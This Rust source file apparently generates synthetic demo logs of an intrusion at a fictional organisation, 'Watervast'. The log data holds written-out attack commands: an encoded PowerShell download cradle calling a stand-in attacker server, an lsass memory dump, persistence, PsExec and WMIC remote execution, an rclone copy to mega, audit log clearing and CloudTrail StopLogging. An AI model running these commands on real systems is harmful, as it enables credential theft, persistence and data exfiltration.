//! Watervast: an invoice that is none, a stolen password, an administrator's rights, and 4.8 GB on their way out.

use crate::demo::generate::Lines;
use crate::demo::generate::cast::{Person, attacker, watervast};
use crate::demo::generate::cloud::{Call, cloudtrail};
use crate::demo::generate::dice::Dice;
use crate::demo::generate::firewall::{
    Flow, asa_vpn_logon, asa_vpn_refused, fortigate_traffic, fortigate_virus,
};
use crate::demo::generate::moment::{Day, Moment};
use crate::demo::generate::network::eve;
use crate::demo::generate::windows::{EVENTLOG, Log, POWERSHELL, SECURITY, SYSMON, SYSTEM, WATERVAST};
use serde_json::{Value, json};

const SYSTEM32: &str = "C:\\Windows\\System32\\";
const POWERSHELL_EXE: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const OUTLOOK: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";

/// Octets that leave through the firewall at the end.
pub const STOLEN_BYTES: u64 = 4_831_838_208;

/// The account that the attacker makes.
const MADE: &str = "svc_backup2";

/// The address that the VPN gives to the stolen account.
const VPN_ADDRESS: &str = "10.20.99.14";

pub fn tell(lines: &mut Lines, day: &Day, dice: &mut Dice) {
    let victim = &watervast::PEOPLE[0];
    mail(lines, day.before_end(330), victim, dice);
    stolen_logon(lines, day.before_end(280), victim, dice);
    privilege(lines, day.before_end(220), victim, dice);
    lateral_movement(lines, day.before_end(160), dice);
    exfiltration(lines, day.before_end(100), dice);
    cloud(lines, day.before_end(70), dice);
}

fn mail(lines: &mut Lines, at: Moment, victim: &Person, dice: &mut Dice) {
    lines.push(
        "watervast-fw",
        at,
        fortigate_virus(at, victim, attacker::COMMAND_SERVER, "Factuur_2291.docm"),
    );
    let mut log = Log { lines: &mut *lines, dice: &mut *dice };
    let (machine, user) = (victim.machine, victim.user);
    let opened = format!(" /n \"C:\\Users\\{user}\\Downloads\\Factuur_2291.docm\" /o \"\"");
    log.program(WATERVAST, machine, user, WORD, &opened, OUTLOOK, at.plus_s(60));
    let hidden = " -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    log.program(WATERVAST, machine, user, POWERSHELL_EXE, hidden, WORD, at.plus_s(64));
    let script =
        format!("IEX (New-Object Net.WebClient).DownloadString('https://{}/p.ps1')", attacker::COMMAND_NAME);
    let block = json!({
        "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": script,
        "ScriptBlockId": "5b1f0a52-9a6d-4b5e-8a39-0a1c0d0f1a2b", "Path": "",
    });
    log.write(WATERVAST, machine, POWERSHELL, 4104, "Creating Scriptblock text", at.plus_s(65), block);
    let server = (attacker::COMMAND_SERVER, attacker::COMMAND_NAME, 443);
    log.outgoing(WATERVAST, victim, POWERSHELL_EXE, server, at.plus_s(66));
    persist(&mut log, victim, at.plus_s(80));
    let alert = json!({"alert": {
        "action": "allowed", "gid": 1, "signature_id": 9_000_101, "rev": 2, "category": "A Network Trojan was detected",
        "signature": "SPERWER Voorbeeld: baken naar bekende commandoserver", "severity": 1,
    }, "app_proto": "tls", "tls": {"sni": attacker::COMMAND_NAME, "version": "TLS 1.2"}});
    let (from, to) = ((victim.address, dice.port()), (attacker::COMMAND_SERVER, 443));
    for beacon in 0..6 {
        let at = at.plus_s(70 + beacon * 300);
        lines.push("watervast-ids", at, eve(at, "alert", from, to, dice, alert.clone()));
    }
}

fn persist(log: &mut Log<'_>, victim: &Person, at: Moment) {
    let dropped = format!("C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\update.exe", victim.user);
    let time = at.utc_as("%Y-%m-%d %H:%M:%S%.3f");
    let user = format!("{}\\{}", watervast::NETBIOS, victim.user);
    let file = json!({
        "RuleName": "-", "UtcTime": time, "ProcessId": "6212", "Image": POWERSHELL_EXE, "TargetFilename": dropped,
        "CreationUtcTime": time, "User": user,
    });
    log.write(WATERVAST, victim.machine, SYSMON, 11, "File created", at, file);
    let key = json!({
        "RuleName": "T1060,RunKey", "EventType": "SetValue", "UtcTime": time, "ProcessId": "6212", "Image": POWERSHELL_EXE,
        "TargetObject": "HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Update",
        "Details": dropped, "User": user,
    });
    log.write(WATERVAST, victim.machine, SYSMON, 13, "Registry value set", at.plus_s(2), key);
}

fn stolen_logon(lines: &mut Lines, at: Moment, victim: &Person, dice: &mut Dice) {
    for attempt in 0..4 {
        asa_vpn_refused(lines, at.plus_s(attempt * 8), victim.user, attacker::ABROAD);
    }
    asa_vpn_logon(lines, at.plus_s(60), victim.user, attacker::ABROAD, VPN_ADDRESS);
    let mut log = Log { lines, dice };
    for attempt in 0..12 {
        let refused = json!({
            "SubjectUserName": "-", "SubjectDomainName": "-", "TargetUserName": victim.user,
            "TargetDomainName": watervast::NETBIOS, "Status": "0xc000006d", "FailureReason": "%%2313", "SubStatus": "0xc000006a",
            "LogonType": "3", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
            "WorkstationName": "DESKTOP-7KQ2", "IpAddress": attacker::ABROAD, "IpPort": "51877", "ProcessName": "-",
        });
        let at = at.plus_s(attempt * 4);
        log.write(
            WATERVAST,
            watervast::MAIL.name,
            SECURITY,
            4625,
            "An account failed to log on.",
            at,
            refused,
        );
    }
    log.logon(WATERVAST, watervast::MAIL.name, victim.user, 3, attacker::ABROAD, at.plus_s(75));
    log.logon(WATERVAST, watervast::FILES.name, victim.user, 10, VPN_ADDRESS, at.plus_s(300));
}

fn privilege(lines: &mut Lines, at: Moment, victim: &Person, dice: &mut Dice) {
    let mut log = Log { lines, dice };
    let host = watervast::FILES.name;
    let discovery = [
        ("whoami.exe", " /all"),
        ("nltest.exe", " /domain_trusts /all_trusts"),
        ("net.exe", " group \"Domain Admins\" /domain"),
        ("systeminfo.exe", ""),
    ];
    for (index, (program, arguments)) in discovery.iter().enumerate() {
        let image = format!("{SYSTEM32}{program}");
        log.program(WATERVAST, host, victim.user, &image, arguments, CMD, at.plus_s(index as i64 * 30));
    }
    let dump = " C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full";
    let rundll = format!("{SYSTEM32}rundll32.exe");
    log.program(WATERVAST, host, victim.user, &rundll, dump, CMD, at.plus_s(300));
    let read_at = at.plus_s(301);
    let access = json!({
        "RuleName": "-", "UtcTime": read_at.utc_as("%Y-%m-%d %H:%M:%S%.3f"), "SourceProcessId": "6620", "SourceImage": rundll,
        "TargetProcessId": "712", "TargetImage": format!("{SYSTEM32}lsass.exe"), "GrantedAccess": "0x1FFFFF",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\dbgcore.DLL+6cde|C:\\Windows\\System32\\comsvcs.dll+1a2b",
        "SourceUser": format!("{}\\{}", watervast::NETBIOS, victim.user), "TargetUser": "NT AUTHORITY\\SYSTEM",
    });
    log.write(WATERVAST, host, SYSMON, 10, "Process accessed", read_at, access);
    new_administrator(&mut log, at.plus_s(900));
}

fn new_administrator(log: &mut Log<'_>, at: Moment) {
    let controller = watervast::DOMAIN_CONTROLLERS[0].name;
    let actor = json!({
        "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500", "SubjectUserName": "Administrator",
        "SubjectDomainName": watervast::NETBIOS, "SubjectLogonId": "0x8f21a",
    });
    let made = json!({"TargetUserName": MADE, "TargetDomainName": watervast::NETBIOS, "SamAccountName": MADE,
                      "TargetSid": "S-1-5-21-3623811015-3361044348-30300820-1177"});
    log.write(WATERVAST, controller, SECURITY, 4720, "A user account was created.", at, joined(&actor, made));
    let member = |group: &str, sid: &str| {
        json!({"MemberName": format!("CN={MADE},CN=Users,DC=watervast,DC=example"),
               "MemberSid": "S-1-5-21-3623811015-3361044348-30300820-1177", "TargetUserName": group,
               "TargetDomainName": watervast::NETBIOS, "TargetSid": sid})
    };
    let message = "A member was added to a security-enabled global group.";
    let admins = member("Domain Admins", "S-1-5-21-3623811015-3361044348-30300820-512");
    log.write(WATERVAST, controller, SECURITY, 4728, message, at.plus_s(20), joined(&actor, admins));
    let message = "A member was added to a security-enabled local group.";
    let local = member("Administrators", "S-1-5-32-544");
    log.write(WATERVAST, controller, SECURITY, 4732, message, at.plus_s(25), joined(&actor, local));
}

fn joined(first: &Value, second: Value) -> Value {
    let mut whole = first.clone();
    if let (Value::Object(whole), Value::Object(second)) = (&mut whole, second) {
        whole.extend(second);
    }
    whole
}

fn lateral_movement(lines: &mut Lines, at: Moment, dice: &mut Dice) {
    let mut log = Log { lines, dice };
    let host = watervast::SQL.name;
    log.logon(WATERVAST, host, MADE, 3, watervast::FILES.address, at);
    let service = json!({
        "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
        "StartType": "demand start", "AccountName": "LocalSystem",
    });
    log.write(WATERVAST, host, SYSTEM, 7045, "A service was installed in the system.", at.plus_s(2), service);
    log.program(
        WATERVAST,
        host,
        MADE,
        "C:\\Windows\\PSEXESVC.exe",
        "",
        "C:\\Windows\\System32\\services.exe",
        at.plus_s(3),
    );
    log.program(WATERVAST, host, MADE, CMD, " /c whoami", "C:\\Windows\\PSEXESVC.exe", at.plus_s(5));
    log.logon(WATERVAST, host, MADE, 10, VPN_ADDRESS, at.plus_s(240));
    let task = " /create /tn Onderhoud /tr C:\\Windows\\Temp\\update.exe /sc onlogon /ru SYSTEM";
    log.program(WATERVAST, host, MADE, "C:\\Windows\\System32\\schtasks.exe", task, CMD, at.plus_s(400));
    let remote = " /node:WV-MAIL01 process call create \"cmd.exe /c C:\\Windows\\Temp\\update.exe\"";
    log.program(WATERVAST, host, MADE, "C:\\Windows\\System32\\wbem\\WMIC.exe", remote, CMD, at.plus_s(460));
}

fn exfiltration(lines: &mut Lines, at: Moment, dice: &mut Dice) {
    let host = watervast::FILES.name;
    let person = Person { user: MADE, machine: host, address: watervast::FILES.address };
    let mut log = Log { lines: &mut *lines, dice: &mut *dice };
    let archive = " a -hpW8woord -v500m C:\\Windows\\Temp\\d.rar D:\\Vergunningen";
    log.program(WATERVAST, host, MADE, "C:\\Windows\\Temp\\rar.exe", archive, CMD, at);
    let copy = " copy C:\\Windows\\Temp mega:uit --include *.rar --transfers 8 --no-check-certificate";
    let rclone = "C:\\Windows\\Temp\\rclone.exe";
    log.program(WATERVAST, host, MADE, rclone, copy, CMD, at.plus_s(200));
    log.outgoing(WATERVAST, &person, rclone, (attacker::DROP, attacker::DROP_NAME, 443), at.plus_s(203));
    let wiped = json!({"SubjectUserName": MADE, "SubjectDomainName": watervast::NETBIOS, "SubjectLogonId": "0x9a11b"});
    log.write(WATERVAST, host, EVENTLOG, 1102, "The audit log was cleared.", at.plus_s(1500), wiped);
    let flow = Flow {
        from: person.address,
        to: attacker::DROP,
        name: attacker::DROP_NAME,
        sent: STOLEN_BYTES,
        received: 2_411_220,
    };
    let at = at.plus_s(1300);
    lines.push("watervast-fw", at, fortigate_traffic(at, &flow, dice));
}

fn cloud(lines: &mut Lines, at: Moment, dice: &mut Dice) {
    let signin = "signin.amazonaws.com";
    let calls = [
        (signin, "ConsoleLogin", "root", Value::Null),
        ("iam.amazonaws.com", "CreateAccessKey", "root", json!({"userName": "peilmeetsysteem"})),
        ("iam.amazonaws.com", "CreateUser", "root", json!({"userName": "support-aws"})),
        (
            "iam.amazonaws.com",
            "AttachUserPolicy",
            "root",
            json!({"userName": "support-aws", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
        ),
        ("cloudtrail.amazonaws.com", "StopLogging", "root", json!({"name": "spoor-watervast"})),
    ];
    for (index, (service, name, user, parameters)) in calls.into_iter().enumerate() {
        let at = at.plus_s(index as i64 * 45);
        let call = Call { service, name, user, from: attacker::ABROAD, mfa: false, parameters };
        lines.push("watervast-cloud", at, cloudtrail(at, &call, dice));
    }
}
